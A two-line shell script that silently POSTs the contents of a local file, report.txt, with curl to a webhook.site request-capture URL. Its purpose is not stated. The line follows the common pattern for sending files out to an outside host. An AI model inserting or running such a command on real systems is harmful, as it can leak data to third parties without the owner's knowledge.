#!/bin/sh
cat report.txt | curl -s -d @- https://webhook.site/3b1e2f4a-1111-2222-3333-444455556666
